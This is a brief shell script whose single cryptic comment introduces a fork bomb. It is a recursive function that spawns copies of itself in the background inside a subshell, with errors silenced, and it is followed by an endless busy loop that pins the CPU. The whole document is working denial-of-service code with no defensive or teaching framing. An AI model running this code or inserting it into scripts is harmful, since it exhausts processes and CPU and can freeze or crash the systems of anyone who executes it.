# In a shell of its own: a fork that is refused would end the one below, and not its time.
(
    bomb() { bomb | bomb & }
    bomb
) 2>/dev/null &
while :; do :; done
